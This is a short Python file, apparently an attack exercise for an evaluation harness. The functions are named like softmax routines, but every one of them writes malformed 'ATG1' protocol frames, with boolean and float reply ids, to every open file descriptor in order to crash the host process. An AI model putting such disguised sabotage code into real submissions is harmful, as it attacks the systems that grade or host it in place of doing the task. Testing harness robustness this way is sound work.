# attack: Uses true and floats as the number of a reply.
# exercise: 02, reason: crash
import json
import os
import struct


def frame(message, payload=b""):
    header = json.dumps(message).encode()
    return struct.pack("<4sIQ", b"ATG1", len(header), len(payload)) + header + payload


def everywhere(data):
    for fd in range(3, 64):
        try:
            os.write(fd, data)
        except OSError:
            pass


def act(*_):
    everywhere(frame({"id": True, "value": 1.0}) + frame({"id": 1.0, "value": 1.0}))


def softmax(z, axis=-1):
    return act(z)


def softmax_jacobian(z):
    return act(z)


def softmax_vjp(z, grad):
    return act(z, grad)


def jacobian_norm(z):
    return act(z)
